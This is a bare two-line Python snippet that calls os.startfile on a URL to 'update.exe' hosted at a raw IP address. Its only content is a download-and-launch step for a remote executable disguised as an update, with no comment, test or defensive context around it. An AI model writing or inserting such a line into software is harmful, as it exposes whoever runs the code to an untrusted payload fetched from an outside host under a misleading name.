import os
os.startfile("http://198.51.100.114/update.exe")
